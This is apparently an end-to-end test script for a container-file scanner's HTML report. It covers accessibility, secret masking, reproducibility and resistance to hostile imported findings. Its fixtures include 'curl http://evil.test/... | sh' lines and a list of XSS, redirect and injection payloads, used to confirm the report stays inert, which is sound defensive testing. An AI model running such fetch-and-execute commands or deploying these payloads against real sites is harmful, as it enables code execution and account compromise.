#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The page of `-o html`, read and used as people do, in a headless Chromium (html_page.js).
# shellcheck source-path=SCRIPTDIR source=lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

for name in chromium chromium-browser google-chrome; do
    CHROMIUM=$(command -v "$name") && break
done
export CHROMIUM

need_browser() {
    need hullmark node-of-tests
    if [ -z "$CHROMIUM" ]; then
        echo "needs chromium"
        exit 77
    fi
}

# Findings of all kinds, of our own, of another tool, of an image and one that is accepted.
write_example() {
    cat >Dockerfile <<'EOF'
FROM golang:1.22 AS build
WORKDIR /src
COPY . .
RUN go build -o /app ./...

FROM node:latest
ENV DB_PASSWORD=correct-horse-battery
RUN apt-get update && \
    apt-get install -y curl git && \
    curl http://example.com/x.sh | sh
COPY --from=build /app /app
# hullmark ignore=HM3007 until=2099-01-31 reason="a jump host"
EXPOSE 22
CMD ["/app"]
EOF
    python3 - <<'EOF'
import json

def result(rule, level, text, line=1, **properties):
    return {"ruleId": rule, "level": level, "message": {"text": text}, "properties": properties,
            "locations": [{"physicalLocation": {"artifactLocation": {"uri": "Dockerfile"},
                                                "region": {"startLine": line}}}]}

def run(tool, results, rules=()):
    return {"tool": {"driver": {"name": tool, "rules": list(rules)}}, "results": results}

runs = [run("other-tool", [result("custom-1", "warning", "What only the other tool knows.", 3)])]
json.dump({"version": "2.1.0", "runs": runs}, open("other.sarif", "w"))
EOF
}

example() {
    write_example
    expect_exit 0 hullmark scan --without all --exit-zero -q --import other.sarif -o html=page.html .
}

use() { # use CASE
    need_browser
    example
    node-of-tests "$ROOT/tests/e2e/html_page.js" "$1" page.html
}

check "it asks for nothing, logs nothing" use quiet
check "axe finds nothing, light, dark and narrow" use accessible
check "headings, landmarks and tables are in order" use headings
check "each filter shows what it says, and how many" use filters
check "by keyboard alone" use keyboard
check "every link leads somewhere, also into what is folded or filtered" use links
check "without a script all of it is there" use withoutScript
check "print opens everything and shows addresses" use print
check "light, dark, and remembered" use theme
check "as narrow as a telephone" use narrow

no_secret() {
    need hullmark
    example
    expect_no_match 'correct-horse-battery' page.html
    expect_match 'ENV DB_PASSWORD=\*\*\*\*' page.html
}
check "a secret is not in the lines that are shown" no_secret

same_again() {
    need hullmark
    export SOURCE_DATE_EPOCH=1795000000
    example
    mv page.html first.html
    example
    cmp first.html page.html
}
check "the same page twice" same_again

of_images() {
    need_browser
    need trivy world
    printf 'FROM hullmark.test/base:3.10\nARG MODE\nWORKDIR /app\nCOPY package.json .\nRUN npm ci\nCOPY settings/ .\nUSER 65532\n' \
        >Dockerfile
    expect_exit 1 hullmark scan -q -o html=page.html --layout "$IMAGES/built" .
    expect_match "base image <code>hullmark.test/base:3.10</code> <a class='place' href='#s1-1'>Dockerfile:1</a>" page.html
    expect_match "<code>RUN</code> <a class='place' href='#s1-5'>Dockerfile:5</a>" page.html
    expect_match 'Take a newer base image than <code>hullmark.test/base:3.10' page.html
    for name in quiet accessible links narrow sorts; do
        node-of-tests "$ROOT/tests/e2e/html_page.js" "$name" page.html
    done
}
check "an image's layers, and what each brought" of_images

incomplete() {
    need hullmark
    printf 'FROM scratch\nUSER 1\n' >Dockerfile
    expect_exit 3 hullmark scan -q --require grype -o html=page.html --without trivy .
    expect_match '<title>incomplete' page.html
    expect_match '<h3>Not checked</h3>' page.html
    expect_match 'What they would have found is not in this report' page.html
    expect_no_match "class='verdict is-pass'" page.html
}

no_grype() {
    PATH=/usr/bin:/bin HULLMARK_GRYPE=$PWD/none incomplete
}
check "what was not done stands beside the verdict" no_grype

# Every text that another tool's document can hold is an attack.
hostile() {
    need_browser
    python3 - <<'EOF'
import json

attacks = ["</script><script>globalThis.pwned=1;alert(1)</script><img src=x onerror=alert(1)>",
           "\"' onmouseover=alert(1) x='", "javascript:alert(1)", "</style><style>*{display:none}</style>",
           "--><svg onload=alert(1)>", "<base href=https://evil.test/>", "[x](javascript:alert(1))",
           "</title></details></section><form action=https://evil.test><input autofocus onfocus=alert(1)>",
           "\x1b]0;pwned\x07\u202egnp.exe", "{{constructor.constructor('alert(1)')()}}", "<!--", "]]>", "&lt;script&gt;",
           "<a href=https://evil.test/ ping=https://evil.test>x</a>", "<meta http-equiv=refresh content='0;url=https://evil.test'>"]
runs = []
for i, attack in enumerate(attacks):
    rule = {"id": attack, "name": attack, "shortDescription": {"text": attack}, "fullDescription": {"text": attack},
            "help": {"text": attack, "markdown": attack}, "helpUri": "https://evil.test/?" + attack,
            "properties": {"tags": [attack, "security"], "security-severity": "9.%d" % (i % 10)}}
    location = {"physicalLocation": {"artifactLocation": {"uri": "dir%d/%s" % (i, attack.replace("/", "_"))},
                                     "region": {"startLine": 1, "snippet": {"text": attack}}},
                "logicalLocations": [{"name": attack, "fullyQualifiedName": attack}]}
    runs.append({"tool": {"driver": {"name": "tool%d %s" % (i, attack), "version": attack, "rules": [rule]}},
                 "results": [{"ruleId": attack, "level": "error", "message": {"text": attack}, "locations": [location],
                              "partialFingerprints": {attack: attack}}]})
json.dump({"version": "2.1.0", "runs": runs}, open("hostile.sarif", "w"))
with open("Dockerfile", "w") as file:
    file.write("FROM a AS x\n")
    for attack in attacks:
        if "{{" in attack:
            continue  # a template, which is not judged
        line = attack.replace("\n", " ")
        file.write('ENV A="%s"\nRUN echo %s; curl http://evil.test/%s | sh\nFROM %s AS s%d\n' % (
            line.replace('"', "'"), line, "x", line.replace(" ", "") or "b", len(line)))
EOF
    expect_exit 1 hullmark scan --without all -q --import hostile.sarif -o html=page.html -o json=out.json .
    expect_json out.json 'doc["verdict"] == "fail" and all(row["state"] != "failed" for row in doc["ledger"])'
    node-of-tests "$ROOT/tests/e2e/html_page.js" hostile page.html
}
check "a hostile report does nothing" hostile

many() {
    need_browser
    printf 'FROM scratch\nUSER 1\n' >Dockerfile
    python3 - <<'EOF'
import json

levels = ["error", "warning", "note"]
results = [{"ruleId": "rule-%d" % (i % 50), "level": levels[i % 3], "message": {"text": "Copy %d of many." % i},
            "locations": [{"physicalLocation": {"artifactLocation": {"uri": "src/file%d.txt" % (i % 100)},
                                                "region": {"startLine": i // 100 + 1}}}]} for i in range(60000)]
json.dump({"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "other-tool"}}, "results": results}]},
          open("many.sarif", "w"))
EOF
    expect_exit 1 hullmark scan --without all -q --import many.sarif -o html=page.html .
    expect_match 'findings are left out' "$SAID/stderr"
    [ "$(stat -c %s page.html)" -lt 6000000 ]
    node-of-tests "$ROOT/tests/e2e/html_page.js" many page.html
}
check "60,000 findings make a page that opens" many
